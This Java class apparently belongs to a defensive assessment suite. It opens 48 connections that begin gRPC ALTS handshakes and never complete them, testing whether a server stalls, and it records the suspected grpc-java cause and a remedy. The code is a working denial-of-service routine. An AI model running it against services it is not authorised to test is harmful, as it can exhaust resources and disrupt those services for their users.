package dev.countersign.assessment;

import java.io.IOException;
import java.net.Socket;
import java.util.concurrent.TimeUnit;

/** Begins many ALTS handshakes and ends none. */
final class HalfOpenAlts extends Abuse {
  private static final int CONNECTIONS = 48;
  private static final byte[] BEGINNING = {
    40, 0, 0, 0, 2, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12
  };

  HalfOpenAlts() {
    super(
        About.of("alts-half-open", Group.ALTS, Severity.HIGH)
            .tries("48 connections that stop in the midst of an ALTS handshake.")
            .safe("Established connections go on, and new ones are taken.")
            .source("grpc-java AltsHandshakerStub waits on the event loop (F7)")
            .remedy("Keep handshakes off the threads that carry calls, and bound their number."),
        Reach.ALTS,
        true);
  }

  @Override
  Outcome misbehave(Attack attack) throws IOException, InterruptedException {
    for (int i = 0; i < CONNECTIONS; i++) {
      Socket socket = attack.tcp();
      socket.getOutputStream().write(BEGINNING);
    }
    TimeUnit.MILLISECONDS.sleep(attack.target().handshakePatience().toMillis() / 4);
    return Outcome.passed(CONNECTIONS + " handshakes were begun");
  }
}
